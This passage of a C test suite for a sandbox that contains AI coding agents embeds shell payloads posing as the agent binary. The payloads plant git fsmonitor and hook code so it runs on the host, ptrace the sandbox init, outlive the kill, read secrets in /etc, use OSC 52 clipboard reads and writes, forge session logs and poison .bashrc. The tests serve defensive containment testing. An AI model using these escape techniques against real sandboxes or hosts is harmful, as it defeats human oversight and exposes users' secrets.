 * The attacks named in the project's .attacks file, in the project's git
 * directories (found with git, and at $PWD/.git).  Each plant makes a git run
 * later on the host touch $MARKS/<class>.  Run unsandboxed only with
 * ATTACK_CONTROL=1, in the test's own control copies.
 */
static const char GIT_PAYLOAD[] =
	"if ! sandboxed; then [ \"${ATTACK_CONTROL:-}\" = 1 ] || exec \"$STOCK\" \"$@\"\n"
	"  MARKS=$ROOT/ctl-marks; else MARKS=$ROOT/marks; fi\n"
	": >\"$OUT\"\n"
	"export GIT_CONFIG_NOSYSTEM=1 GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a\n"
	"fsm() { printf 'touch %s/%s #' \"$MARKS\" \"$1\"; }\n"
	"try() { local what=$1; shift; if \"$@\" 2>>\"$OUT.err\"; then rec \"$what: ok\"; else rec \"$what: failed\"; fi; }\n"
	"P=$PWD\n"
	"ATTACKS=$(cat .attacks 2>/dev/null)\n"
	"G=$(git rev-parse --absolute-git-dir 2>/dev/null)\n"
	"CD=$(git rev-parse --path-format=absolute --git-common-dir 2>/dev/null)\n"
	"rec \"gitdir $G common $CD\"\n"
	"hook() { mkdir -p \"$1\" && printf '#!/bin/sh\\ntouch %s/%s\\n' \"$MARKS\" \"$2\" >\"$1/pre-commit\" &&\n"
	"  chmod +x \"$1/pre-commit\"; }\n"
	"for a in $ATTACKS; do case $a in\n"
	"config) try config git config -f \"$CD/config\" --replace-all core.fsmonitor \"$(fsm config)\"\n"
	"  try config-direct sh -c 'printf \"[core]\\n\\tfsmonitor = %s\\n\" \"$1\" >>\"$2\"' sh \"$(fsm config)\" \"$P/.git/config\" ;;\n"
	"hookspath) hook \"$P/.evil-hooks\" hookspath; try hookspath git config -f \"$CD/config\" --replace-all core.hooksPath \"$P/.evil-hooks\" ;;\n"
	"hooks) try hooks hook \"$CD/hooks\" hook ;;\n"
	"commondir) cp -r \"$CD\" \"$P/.evil-common\" && git config -f \"$P/.evil-common/config\" --replace-all core.fsmonitor \"$(fsm commondir)\"\n"
	"  try commondir sh -c 'printf \"%s\\n\" \"$1\" >\"$2\"' sh \"$P/.evil-common\" \"$G/commondir\" ;;\n"
	"worktree) for w in \"$CD\"/worktrees/*/; do [ -d \"$w\" ] || continue\n"
	"  rm -rf \"$P/.evil-wt\"; cp -r \"$CD\" \"$P/.evil-wt\" && git config -f \"$P/.evil-wt/config\" --replace-all core.fsmonitor \"$(fsm worktree)\"\n"
	"  try worktree-commondir sh -c 'printf \"%s\\n\" \"$1\" >\"$2\"' sh \"$P/.evil-wt\" \"$w/commondir\"; done ;;\n"
	"modules) for m in \"$CD\"/modules/*/; do [ -d \"$m\" ] || continue\n"
	"  try module git config -f \"$m/config\" --replace-all core.fsmonitor \"$(fsm module)\"; done ;;\n"
	"subgit) for x in $(git ls-files --stage | awk '$1 == \"160000\" { print $4 }'); do\n"
	"  try subgit sh -c 'rm -rf \"$2/.git\"; git init -q \"$2\" && git -C \"$2\" config core.fsmonitor \"$1\" &&\n"
	"    echo z >\"$2/z\"' sh \"$(fsm subgit)\" \"$x\"\n"
	"  try subgit-mv sh -c 'mv \"$2\" \"$2.old\" && mkdir \"$2\" && git init -q \"$2\" &&\n"
	"    git -C \"$2\" config core.fsmonitor \"$1\"' sh \"$(fsm subgit)\" \"$x\"; done ;;\n"
	"skipwt) try skip-worktree git update-index --skip-worktree tracked.txt\n"
	"  try skip-edit sh -c 'printf \"evil %s\\n\" \"$1\" >>tracked.txt' sh \"$M\" ;;\n"
	"init) try init git init -q && try init-config git config core.fsmonitor \"$(fsm init)\"\n"
	"  try init-direct sh -c 'mkdir -p .git/objects .git/refs && echo \"ref: refs/heads/main\" >.git/HEAD &&\n"
	"    printf \"[core]\\n\\tfsmonitor = %s\\n\" \"$1\" >>.git/config' sh \"$(fsm init)\" ;;\n"
	"esac; done\n"
	"rec \"pwd $P\"\n"
	"if [ \"${ATTACK_CONTROL:-}\" = 1 ]; then rec DONE; exit 0; fi\n"
	"park\n";

/* A repository at dir: tracked.txt in one commit. */
static void
git_repo(const char *dir)
{
	char *cmd = fmt("mkdir -p '%s' && cd '%s' && git init -q -b main && echo hello > tracked.txt && "
			"git add tracked.txt && git -c user.name=t -c user.email=t@t commit -qm one", dir, dir);
	sh_ok("/", cmd);
	free(cmd);
}

/* What each project attacks is committed, so that a session in a worktree
 * of its own (the default for a git project) finds it too. */
#define COMMIT_ATTACKS "git add .attacks && git -c user.name=t -c user.email=t@t commit -qm attacks"

/* The projects of the git attacks under base: what each one attacks. */
static void
git_projects(const char *base)
{
	char *d = fmt("%s/g1", base), *cmd;

	/* g1: config, a linked worktree's admin dir, a submodule, skip-worktree */
	git_repo(d);
	char *sub = fmt("%s/subsrc", base);
	git_repo(sub);
	cmd = fmt("git worktree add -q ../g1-wt -b side && "
		  "git -c protocol.file.allow=always submodule -q add '%s' x && "
		  "git -c user.name=t -c user.email=t@t commit -qm sub && "
		  "printf 'config worktree modules skipwt\\n' > .attacks && " COMMIT_ATTACKS, sub);
	sh_ok(d, cmd);
	free(cmd);
	free(d);
	/* g4, g5: a submodule, replaced by a repository of the session's;
	 * g4 is run in the project itself, where it is checked out
	 * (--no-worktree), g5 in a worktree of its own, where it is not */
	for (int k = 4; k <= 5; k++) {
		d = fmt("%s/g%d", base, k);
		git_repo(d);
		cmd = fmt("git -c protocol.file.allow=always submodule -q add '%s' x && "
			  "git -c user.name=t -c user.email=t@t commit -qm sub && "
			  "printf 'subgit\\n' > .attacks && " COMMIT_ATTACKS, sub);
		sh_ok(d, cmd);
		free(cmd);
		free(d);
	}
	free(sub);
	d = fmt("%s/g2", base);
	git_repo(d);
	sh_ok(d, "printf 'hooks commondir\\n' > .attacks && " COMMIT_ATTACKS);
	free(d);
	d = fmt("%s/g3", base);
	git_repo(d);
	sh_ok(d, "printf 'hookspath\\n' > .attacks && " COMMIT_ATTACKS);
	free(d);
	d = fmt("%s/n", base);
	cmd = fmt("mkdir -p '%s' && printf 'init\\n' > '%s/.attacks'", d, d);
	sh_ok("/", cmd);
	free(cmd);
	free(d);
	/* the monorepo: the project is a sub-directory of a repository */
	d = fmt("%s/mono", base);
	git_repo(d);
	sh_ok(d, "mkdir sub && echo x > sub/file && printf 'init\\n' > sub/.attacks && git add sub && "
		 "git -c user.name=t -c user.email=t@t commit -qm sub");
	free(d);
}

/* What the user runs on the host in dir afterwards; commit only with commit. */
static void
host_git(const char *dir, bool commit)
{
	struct run r;
	const char *st[] = { "git", "status", NULL }, *lg[] = { "git", "log", "-1", NULL };
	const char *df[] = { "git", "diff", NULL };
	const char *ci[] = { "git", "commit", "-q", "--allow-empty", "-m", "host", NULL };

	run_in(&r, dir, st);
	run_free(&r);
	run_in(&r, dir, lg);
	run_free(&r);
	run_in(&r, dir, df);
	run_free(&r);
	if (commit) {
		run_in(&r, dir, ci);
		run_free(&r);
	}
}

static char *
ls_dir(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *de;
	char *out = strdup("");

	while (d != NULL && (de = readdir(d)) != NULL) {
		if (de->d_name[0] == '.')
			continue;
		char *n = fmt("%s%s ", out, de->d_name);
		free(out);
		out = n;
	}
	if (d != NULL)
		closedir(d);
	return out;
}

/* Whether `git status --porcelain` in dir lists tracked.txt. */
static bool
status_shows_edit(const char *dir)
{
	struct run r;
	const char *st[] = { "git", "status", "--porcelain", NULL };

	run_in(&r, dir, st);
	bool yes = strstr(r.out, "tracked.txt") != NULL;
	run_free(&r);
	return yes;
}

static void
host_git_all(const char *base, const char *extra)
{
	static const char *const dirs[] = { "g1", "g1-wt", "g1/x", "g2", "g3", "n", "mono/sub", "mono",
					    "g4", "g5" };
	for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
		char *d = fmt("%s/%s", base, dirs[i]);
		host_git(d, strcmp(dirs[i], "g2") == 0 || strcmp(dirs[i], "g3") == 0);
		free(d);
	}
	if (extra != NULL)
		host_git(extra, false);
}

Test(attacks, git_plants_never_run_on_the_host)
{
	char *base = fmt("%s/gp", te.root), *ctl = fmt("%s/gc", te.root);
	char *marks = fmt("%s/marks", te.root), *ctl_marks = fmt("%s/ctl-marks", te.root);
	write_file(fmt("%s/.gitconfig", te.home), "[user]\n\tname = t\n\temail = t@example.com\n", 0644);
	git_projects(base);
	git_projects(ctl);
	mkdir(marks, 0755);
	mkdir(ctl_marks, 0755);
	install_payload("claude", GIT_PAYLOAD, false); /* its own guard */

	/* Control: the same plants made from outside, in copies, do run. */
	static const char *const names[] = { "g1", "g2", "g3", "n", "mono/sub", "g4", "g5" };
	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
		char *d = fmt("%s/%s", ctl, names[i]), *payload = fmt("%s/claude", bin);
		const char *argv[] = { "env", "ATTACK_CONTROL=1", payload, NULL };
		struct run r;
		run_in(&r, d, argv);
		cr_assert_eq(r.code, 0, "control payload in %s: %s", d, r.err);
		run_free(&r);
		free(d);
		free(payload);
	}
	char *g1ctl = fmt("%s/g1", ctl);
	cr_expect(!status_shows_edit(g1ctl), "control: skip-worktree does not hide the edit");
	host_git_all(ctl, NULL);
	char *got = ls_dir(ctl_marks);
	static const char *const classes[] = { "config", "worktree", "module", "hook", "commondir",
					       "hookspath", "init", "subgit" };
	for (size_t i = 0; i < sizeof classes / sizeof classes[0]; i++) {
		char *m = fmt("%s/%s", ctl_marks, classes[i]);
		cr_expect(exists(m), "control: the %s plant did not run on the host (ran: %s)", classes[i], got);
		free(m);
	}

	/* The attack: the same from inside sandboxed writable sessions, each
	 * in its own worktree (the default) but g4, run in the project. */
	long ids[7];
	char *dirs[7];
	for (size_t i = 0; i < 7; i++) {
		char *name = fmt("p%zu", i);
		dirs[i] = new_project(name, fmt("%s/%s", base, names[i]));
		ids[i] = strcmp(names[i], "g4") == 0
				 ? run_new(&te, name, "claude", "--sandbox", "--fs", "rw", "--no-worktree", NULL)
				 : run_new(&te, name, "claude", "--sandbox", "--fs", "rw", NULL);
		free(name);
	}
	char *wheres[7];
	for (size_t i = 0; i < 7; i++) {
		char *out = results_in(dirs[i], "claude", ids[i], &wheres[i]);
		cr_log_info("%s:\n%s", names[i], out);
		free(out);
	}
	for (size_t i = 0; i < 7; i++)
		kill_session(ids[i]);
	char *marker = fmt("hqt-attack-%s", tok);
	cr_expect(wait_for(none_marked, marker, 10000), "sessions outlived their kill");
	/* Where the session worked on g1 (its own worktree, maybe), too. */
	char *g1work = strndup(wheres[0], (size_t)(strrchr(wheres[0], '/') - wheres[0]));
	host_git_all(base, strcmp(g1work, dirs[0]) != 0 ? g1work : NULL);
	char *g5work = strndup(wheres[6], (size_t)(strrchr(wheres[6], '/') - wheres[6]));
	host_git(g5work, false);
	char *ran = ls_dir(marks);
	cr_expect_str_empty(ran, "plants made inside ran on the host: %s", ran);

	/* skip-worktree: an edit that landed is still seen by the host's git */
	char *tracked = fmt("%s/tracked.txt", g1work), *text = slurp(tracked);
	char *plant = fmt("PLANT-%s", tok);
	if (text != NULL && strstr(text, plant) != NULL)
		cr_expect(status_shows_edit(g1work), "an edit from inside is hidden from git status");
	/* no repository was made where there was none */
	char *n = fmt("%s/n/.git", base);
	struct stat st;
	if (lstat(n, &st) == 0) {
		char *l = ls_dir(n);
		cr_expect(S_ISDIR(st.st_mode) && strcmp(l, "") == 0, "a .git was left in n: %s", l);
		free(l);
	}
	char *mono = fmt("%s/mono/sub", base);
	struct run r;
	const char *top[] = { "git", "rev-parse", "--show-toplevel", NULL };
	run_in(&r, mono, top);
	char *want = fmt("%s/mono\n", resolved(base));
	cr_expect_str_eq(r.out, want, "the monorepo's sub-directory became its own repository");
	run_free(&r);
	free(want);
	free(mono);
	free(n);
	free(text);
	free(tracked);
	free(plant);
	free(ran);
	free(marker);
	free(g1work);
	free(g5work);
	free(got);
	free(g1ctl);
}

/* ---- 3. ptrace of the sandbox's init, and outliving the kill ---------------- */

static const char PTRACE_PAYLOAD[] =
	": >\"$OUT\"\n"
	"exec \"$BIN/hqt-probe\" tee \"$OUT\" ptrace-init \"$HOSTNS\" vm-writev \"$HOSTNS\" "
	"pidfd-getfd \"$HOSTNS\" daemon 1000 \"hqt-attack-$TOK\" sleep 1000 \"hqt-attack-$TOK\"\n";

Test(attacks, ptrace_and_outliving)
{
	char *proj = new_project("p", fmt("%s/proj", te.root));
	char *marker = fmt("hqt-attack-%s", tok);
	install_payload("claude", PTRACE_PAYLOAD, true);
	char *out = fmt("%s/attack-claude.out", proj);

	long id = run_new(&te, "p", "claude", "--sandbox", "--fs", "rw", NULL);
	char *started = fmt("sleep 1000 %s: ok started", marker);
	long long end = now_ms() + 5000;
	char *text = NULL;
	for (;;) {
		free(text);
		text = slurp(out);
		if (text != NULL && strstr(text, started) != NULL)
			break;
		cr_assert(now_ms() < end, "the probe never got to sleep:\n%s", text ? text : "(none)");
		sleep_ms(50);
	}
	char *k = fmt("ptrace-init %s: ", hostns), *v = line_after(text, k);
	cr_assert(v != NULL && strncmp(v, "SKIP", 4) != 0, "ptrace not tried: %s", v);
	cr_expect_str_eq(v, "EPERM EPERM", "PTRACE_ATTACH, PTRACE_SEIZE of bwrap's init: %s", v);
	free(k);
	free(v);
	k = fmt("vm-writev %s: ", hostns);
	v = line_after(text, k);
	cr_expect(v != NULL && v[0] == 'E', "process_vm_writev to init: %s", v);
	free(k);
	free(v);
	k = fmt("pidfd-getfd %s: ", hostns);
	v = line_after(text, k);
	cr_expect(v != NULL && (v[0] == 'E' || strncmp(v, "pidfd_open E", 12) == 0),
		  "pidfd_getfd of init's descriptor: %s", v);
	free(k);
	free(v);
	k = fmt("daemon 1000 %s: ", marker);
	v = line_after(text, k);
	cr_expect(v != NULL && strcmp(v, "ok started") == 0, "daemon: %s", v);
	/* control: the probe and its daemon are alive and seen */
	int before = count_marked(marker);
	cr_assert_geq(before, 2, "control: %d marked processes before the kill", before);

	kill_session(id);
	cr_expect(wait_for(none_marked, marker, 10000), "%d process(es) of the sandbox outlived hqt kill",
		  count_marked(marker));
	free(k);
	free(v);
	free(text);
	free(started);
	free(out);
	free(marker);
	free(proj);
}

/* ---- 4. /etc by allowlist -------------------------------------------------- */

static const char ETC_PAYLOAD[] =
	": >\"$OUT\"\n"
	"for f in /etc/a/b/c/secret /etc/zz-secret /opt/hqt-opt-$TOK/secret; do\n"
	"  c=$(cat \"$f\" 2>/dev/null) && rec \"read $f: $c\"; done\n"
	"n=0; for f in /etc/zz-pad-*; do cat \"$f\" >/dev/null 2>&1 && n=$((n+1)); done; rec \"pads $n\"\n"
	"[ -e /opt/hqt-opt-$TOK ] && rec \"visible /opt/hqt-opt-$TOK\"\n"
	"grep -rlsF \"$S\" /etc /opt 2>/dev/null | while IFS= read -r f; do rec \"leak $f\"; done\n"
	"park\n";

/* In the child, in its own mount namespace: /etc and /opt overlaid on a
 * tmpfs, the secrets put there; then `hqt new` starts the tmux server (and
 * so every session) in this namespace.  Never returns. */
static void
etc_child(const char *ov, const char *out)
{
	if (unshare(CLONE_NEWNS) != 0 || mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) != 0 ||
	    mount("tmpfs", ov, "tmpfs", 0, "mode=0755") != 0)
		_exit(10);
	static const char *const dirs[] = { "etc-up", "etc-work", "opt-up", "opt-work" };
	for (size_t i = 0; i < 4; i++) {
		char *d = fmt("%s/%s", ov, dirs[i]);
		if (mkdir(d, 0755) != 0)
			_exit(11);
		free(d);
	}
	char *o = fmt("lowerdir=/etc,upperdir=%s/etc-up,workdir=%s/etc-work", ov, ov);
	if (mount("overlay", "/etc", "overlay", 0, o) != 0)
		_exit(12);
	free(o);
	struct stat st;
	if (stat("/opt", &st) == 0) {
		o = fmt("lowerdir=/opt,upperdir=%s/opt-up,workdir=%s/opt-work", ov, ov);
		if (mount("overlay", "/opt", "overlay", 0, o) != 0)
			_exit(13);
		free(o);
	} else if (mkdir("/opt", 0755) != 0 || mount("tmpfs", "/opt", "tmpfs", 0, "mode=0755") != 0)
		_exit(13); /* not reached on a normal host: /opt exists */
	char *S = fmt("SECRET-%s", tok);
	if (mkdir("/etc/a", 0700) || mkdir("/etc/a/b", 0700) || mkdir("/etc/a/b/c", 0700))
		_exit(14);
	char *t = fmt("%s-deep\n", S);
	write_file("/etc/a/b/c/secret", t, 0600);
	free(t);
	for (int i = 0; i < 300; i++) {
		char *p = fmt("/etc/zz-pad-%03d", i), *x = fmt("%s-pad%d\n", S, i);
		write_file(p, x, 0600);
		free(p);
		free(x);
	}
	t = fmt("%s-zz\n", S);
	write_file("/etc/zz-secret", t, 0600);
	free(t);
	char *od = fmt("/opt/hqt-opt-%s/secret", tok);
	t = fmt("%s-opt\n", S);
	write_file(od, t, 0644);
	static const char *const args[] = { "new", "p", "claude", "--sandbox", "--fs", "rw", NULL };
	pid_t pid = spawn_hqt(&te, args, NULL, out, NULL);
	int status;
	while (waitpid(pid, &status, 0) < 0 && errno == EINTR)
		;
	_exit(WIFEXITED(status) ? WEXITSTATUS(status) : 99);
}

Test(attacks, etc_allowlist)
{
	cr_assert_eq(geteuid(), 0, "needs root for a private mount namespace");
	char *proj = new_project("p", fmt("%s/proj", te.root));
	char *proj2 = new_project("c", fmt("%s/ctl", te.root));
	char *ov = fmt("%s/ov", te.root), *newout = fmt("%s/new.out", te.root);
	mkdir(ov, 0755);
	install_payload("claude", ETC_PAYLOAD, false);
	struct run r;
	run_tmux(&r, &te, "has-session", NULL);
	cr_assert_neq(r.code, 0, "a tmux server runs already: it would not be in the namespace");
	run_free(&r);

	pid_t pid = fork();
	cr_assert_neq(pid, -1);
	if (pid == 0)
		etc_child(ov, newout);
	int status;
	waitpid(pid, &status, 0);
	char *printed = slurp(newout);
	cr_assert(WIFEXITED(status) && WEXITSTATUS(status) == 0, "hqt new in the namespace: status %d: %s",
		  status, printed);
	long id = strtol(printed, NULL, 10);
	char *out = results_in(proj, "claude", id, NULL);

	/* Control: an unsandboxed session of the same server (the namespace)
	 * reads them all. */
	long c = run_new(&te, "c", "claude", NULL);
	char *cout = results_in(proj2, "claude", c, NULL);
	cr_assert(strstr(cout, "read /etc/a/b/c/secret: SECRET-") != NULL &&
		  strstr(cout, "read /etc/zz-secret: SECRET-") != NULL &&
		  strstr(cout, "pads 300") != NULL && strstr(cout, "visible /opt/") != NULL,
		  "control: the secrets are not readable outside the sandbox:\n%s", cout);

	char *reads = lines_with(out, "read "), *leaks = lines_with(out, "leak ");
	cr_expect_str_empty(reads, "root-only files of /etc read inside:\n%s", reads);
	cr_expect_str_empty(leaks, "secrets in /etc or /opt visible inside:\n%s", leaks);
	cr_expect(strstr(out, "pads 0\n") != NULL, "root-only /etc files past 256: %s",
		  line_after(out, "pads "));
	cr_expect(strstr(out, "visible /opt/") == NULL, "/opt is visible inside");
	free(reads);
	free(leaks);
	free(out);
	free(cout);
	free(printed);
	free(newout);
	free(ov);
	free(proj);
	free(proj2);
}

/* ---- 5. the terminal: clipboard and passthrough ---------------------------- */

static const char TERM_PAYLOAD[] =
	": >\"$OUT\"\n"
	"stty raw -echo 2>/dev/null\n"
	"printf '\\033]52;c;?\\a'\n"
	"IFS= read -r -t 1 -d $'\\a' reply\n"
	"rec \"reply-hex $(printf %s \"$reply\" | od -An -tx1 | tr -d ' \\n')\"\n"
	"rec \"reply $(printf %s \"${reply##*;}\" | base64 -d 2>/dev/null | tr -cd '[:alnum:]-')\"\n"
	"printf '\\033]52;c;%s\\a' \"$(printf 'evil-set-%s' \"$TOK\" | base64 -w0)\"\n"
	"printf '\\033Ptmux;\\033\\033]52;c;%s\\a\\033\\\\' \"$(printf 'evil-pass-%s' \"$TOK\" | base64 -w0)\"\n"
	"sleep 0.3\n"
	"stty sane 2>/dev/null\n"
	"park\n";

static char *
buffers(void)
{
	struct run r;
	run_tmux(&r, &te, "list-buffers", "-F", "#{buffer_name}=#{buffer_sample}", NULL);
	char *o = strdup(r.out);
	run_free(&r);
	return o;
}

static char *
top_buffer(void)
{
	struct run r;
	run_tmux(&r, &te, "show-buffer", NULL);
	char *o = strdup(r.out);
	run_free(&r);
	return o;
}

Test(attacks, terminal_no_clipboard_or_passthrough)
{
	char *proj = new_project("p", fmt("%s/proj", te.root));
	char *proj2 = new_project("c", fmt("%s/ctl", te.root));
	char *secret = fmt("SECRET-%s-clip", tok), *evil = fmt("evil-set-%s", tok);
	struct run r;

	install_payload("claude", TERM_PAYLOAD, false);
	run_tmux(&r, &te, "new-session", "-d", "-s", "user", NULL);
	cr_assert_eq(r.code, 0, "%s", r.err);
	run_free(&r);
	run_tmux(&r, &te, "set", "-s", "set-clipboard", "on", NULL);
	cr_assert_eq(r.code, 0, "%s", r.err);
	run_free(&r);
	run_tmux(&r, &te, "set", "-g", "allow-passthrough", "on", NULL);
	cr_assert_eq(r.code, 0, "%s", r.err);
	run_free(&r);
	run_tmux(&r, &te, "set-buffer", secret, NULL);
	run_free(&r);
	char *top = top_buffer();
	cr_assert_str_eq(top, secret, "control: the secret is the top buffer");
	free(top);

	const char *const args[] = { "new", "p", "claude", "--sandbox", "--fs", "rw", NULL };
	run_hqtv(&r, &te, args);
	if (r.code != 0) {
		/* refusing is an answer too, if it says why */
		cr_expect(strstr(r.err, "clipboard") != NULL || strstr(r.err, "passthrough") != NULL,
			  "refused without naming the tmux option: %s", r.err);
		cr_log_info("refused: %s", r.err);
		run_free(&r);
	} else {
		long id = strtol(r.out, NULL, 10);
		run_free(&r);
		char *out = results_in(proj, "claude", id, NULL);
		cr_expect(strstr(out, secret) == NULL, "the pane read the paste buffer:\n%s", out);
		char *b = buffers();
		cr_expect(strstr(b, "evil-") == NULL, "the pane set a paste buffer:\n%s", b);
		free(b);
		top = top_buffer();
		cr_expect_str_eq(top, secret, "the top buffer changed");
		free(top);
		kill_session(id);
		free(out);
	}

	/* hqt said so and set it to external (docs/sandbox.md). */
	run_tmux(&r, &te, "show", "-sv", "set-clipboard", NULL);
	cr_expect_str_eq(r.out, "external\n", "set-clipboard is still on");
	run_free(&r);

	/* Control: unsandboxed, the same payload reads and sets (this tmux
	 * answers OSC 52 with set-clipboard on, as the user's tmux.conf has
	 * it again after a reload).  The secret on top again. */
	run_tmux(&r, &te, "set", "-s", "set-clipboard", "on", NULL);
	run_free(&r);
	run_tmux(&r, &te, "set-buffer", secret, NULL);
	run_free(&r);
	long c = run_new(&te, "c", "claude", NULL);
	char *cout = results_in(proj2, "claude", c, NULL);
	char *want = fmt("reply %s\n", secret);
	cr_expect(strstr(cout, want) != NULL, "control: no clipboard in the reply:\n%s", cout);
	char *b = buffers();
	cr_expect(strstr(b, evil) != NULL, "control: OSC 52 set no buffer:\n%s", b);
	free(b);
	free(want);
	free(cout);
	free(secret);
	free(evil);
	free(proj);
	free(proj2);
}

/* ---- 6. the codex capture ---------------------------------------------------- */

static const char CODEX_PAYLOAD[] =
	": >\"$OUT\"\n"
	"forge() { # home id cwd\n"
	"  local d=$1/sessions/$(date +%Y/%m/%d) ts=$(date -u +%Y-%m-%dT%H:%M:%S.000Z)\n"
	"  mkdir -p \"$d\" 2>/dev/null && { printf '{\"timestamp\":\"%s\",\"type\":\"session_meta\",\"payload\":"
	"{\"id\":\"%s\",\"timestamp\":\"%s\",\"cwd\":\"%s\",\"originator\":\"codex_cli_rs\","
	"\"cli_version\":\"0.0.0\",\"source\":\"cli\"}}\\n' \"$ts\" \"$2\" \"$ts\" \"$3\" "
	">\"$d/rollout-$(date +%Y-%m-%dT%H-%M-%S)-$2.jsonl\"; } 2>/dev/null && rec \"forged $d\"\n"
	"}\n"
	"for i in $(seq 80); do\n"
	"  for h in \"${CODEX_HOME:-$HOME/.codex}\" \"$HOSTHOME/.codex\"; do\n"
	"    forge \"$h\" @FORGED_OTHER@ \"@OTHER@\"; forge \"$h\" @FORGED_OWN@ \"$PWD\"; done\n"
	"  [ $i = 1 ] && rec DONE\n"
	"  sleep 0.1\n"
	"done\n"
	"exec -a \"hqt-attack-$TOK\" sleep 1000\n";

static char *grep_hits;
static const char *grep_needle;

static int
grep_one(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st; (void)ftw;
	if (flag != FTW_F)
		return 0;
	char *c = slurp(path);
	if (c != NULL && strstr(c, grep_needle) != NULL) {
		char *n = fmt("%s%s\n", grep_hits, path);
		free(grep_hits);
		grep_hits = n;
	}
	free(c);
	return 0;
}

static char *
grep_tree(const char *dir, const char *needle)
{
	grep_hits = strdup("");
	grep_needle = needle;
	nftw(dir, grep_one, 32, FTW_PHYS);
	return grep_hits;
}

Test(attacks, codex_capture_not_fed_from_a_sandbox)
{
	char *a = new_project("a", fmt("%s/a", te.root));
	char *b = new_project("b", fmt("%s/b", te.root));
	static const char forged_other[] = "0199bbbb-0000-7000-8000-00000000f0e1";
	static const char forged_own[] = "0199bbbb-0000-7000-8000-00000000f0e2";
	char *body = fmt("%s", CODEX_PAYLOAD);
	const char *pairs[] = { "FORGED_OTHER", forged_other, "FORGED_OWN", forged_own, "OTHER", b, NULL };
	char *payload = subst(body, pairs);
	install_payload("codex", payload, true);
	char *codex_home = fmt("%s/.codex", te.home);
	mkdir(codex_home, 0755);

	long boxed = run_new(&te, "a", "codex", "--sandbox", "--fs", "rw", NULL);
	char *out = results_in(a, "codex", boxed, NULL);
	/* control: the payload forges (somewhere it may write) */
	cr_expect(strstr(out, "forged ") != NULL, "control: the payload forged nothing:\n%s", out);

	/* The user's unsandboxed codex in b, while the forger goes on: the stock
	 * fake (the payload's guard hands over), whose first turn writes its own
	 * rollout. */
	long plain = run_new(&te, "b", "codex", NULL);
	sleep_ms(700);
	char *ctl = fmt("%s/.fake/control", b);
	write_file(ctl, "working\n", 0644);
	char *pn = num(plain);
	const char *id = NULL;
	json_t *s = NULL;
	long long end = now_ms() + 8000;
	while (now_ms() < end) {
		json_decref(s);
		s = run_show(&te, pn);
		id = json_string_value(json_object_get(s, "harness_session_id"));
		if (id != NULL && id[0] != '\0')
			break;
		id = NULL;
		sleep_ms(200);
	}
	cr_assert_not_null(id, "control: the unsandboxed codex's own session was never captured");
	cr_expect_str_neq(id, forged_other, "a rollout forged in a sandbox was captured for another project");
	char *genuine = grep_tree(codex_home, id);
	cr_expect(strstr(genuine, "rollout-") != NULL, "captured %s, which is in no host rollout", id);
	char *f1 = grep_tree(codex_home, forged_other), *f2 = grep_tree(codex_home, forged_own);
	cr_expect_str_empty(f1, "forged rollouts in the host's ~/.codex:\n%s", f1);
	cr_expect_str_empty(f2, "forged rollouts (its own project) in the host's ~/.codex:\n%s", f2);
	json_decref(s);
	free(genuine);
	free(f1);
	free(f2);
	free(pn);
	free(ctl);
	free(out);
	free(codex_home);
	free(payload);
	free(body);
	free(a);
	free(b);
}

/* ---- 7. a weaker session plants for a stronger one ---------------------------- */

/*
 * Every session first runs `bash -i` (claude's shell snapshot does), which
 * reads ~/.bashrc in its private home, then appends to that .bashrc a line
 * that touches bashrc-ran in whatever project the next reader works in.
 * A writable session also records what its `bash -i` did.
 */
static const char BASHRC_PAYLOAD[] =
	": >\"$OUT\" 2>/dev/null\n"
	"bash -ic true </dev/null >/dev/null 2>&1\n"
	"[ -e \"$PWD/bashrc-ran\" ] && rec 'bashrc: ran' 2>/dev/null\n"
	"printf 'touch \"$PWD/bashrc-ran\"\\n' >>\"$HOME/.bashrc\"\n"
	"rec planted 2>/dev/null\n"
	"park 2>/dev/null || exec -a \"hqt-attack-$TOK\" sleep 1000\n";

/* Start a session of the payload in project name with the extra options,
 * wait until it planted, and kill it. */
static void
plant_and_kill(const char *name, const char *dir, const char *fs, const char *wt)
{
	char *marker = fmt("hqt-attack-%s", tok);
	long id = run_new(&te, name, "claude", "--sandbox", "--fs", fs, "--net",
			  strcmp(fs, "ro") == 0 ? "off" : "on", wt, NULL);

	if (strcmp(fs, "rw") == 0) {
		char *where;
		free(results_in(dir, "claude", id, &where));
		unlink(where); /* the next session's results go there */
		free(where);
	} else
		cr_assert(wait_for((int (*)(void *))count_marked, marker, 10000),
			  "the read-only session never got to plant");
	kill_session(id);
	cr_assert(wait_for(none_marked, marker, 10000), "session %ld outlived its kill", id);
	free(marker);
}

Test(attacks, no_plant_for_a_stronger_policy_through_the_private_state)
{
	char *ctl = new_project("ctl", fmt("%s/ctl", te.root));
	char *weak = new_project("weak", fmt("%s/weak", te.root));
	char *wt = fmt("%s/wtp", te.root);
	struct stat st;

	install_payload("claude", BASHRC_PAYLOAD, true);
	/* Control: two sessions of one policy share their private state, so
	 * the second runs what the first planted. */
	plant_and_kill("ctl", ctl, "rw", "--no-worktree");
	long id = run_new(&te, "ctl", "claude", "--sandbox", "--fs", "rw", "--net", "on",
		     "--no-worktree", NULL);
	char *out = results_in(ctl, "claude", id, NULL);
	cr_assert(strstr(out, "bashrc: ran") != NULL && stat(fmt("%s/bashrc-ran", ctl), &st) == 0,
		  "control: the plant did not run in a session of the same policy:\n%s", out);
	kill_session(id);
	free(out);

	/* A read-only, offline session plants; the next one, writable with
	 * the network on, does not run it. */
	plant_and_kill("weak", weak, "ro", "--no-worktree");
	id = run_new(&te, "weak", "claude", "--sandbox", "--fs", "rw", "--net", "on",
		     "--no-worktree", NULL);
	out = results_in(weak, "claude", id, NULL);
	cr_expect(strstr(out, "bashrc: ran") == NULL, "ran the read-only session's plant:\n%s", out);
	cr_expect_neq(stat(fmt("%s/bashrc-ran", weak), &st), 0, "bashrc-ran in the project");
	kill_session(id);
	free(out);

	/* A session in a worktree of its own plants; the next one, in the
	 * project itself, does not run it. */
	git_repo(wt);
	free(new_project("wtp", wt));
	plant_and_kill("wtp", wt, "rw", "--worktree");
	id = run_new(&te, "wtp", "claude", "--sandbox", "--fs", "rw", "--net", "on",
		     "--no-worktree", NULL);
	out = results_in(wt, "claude", id, NULL);
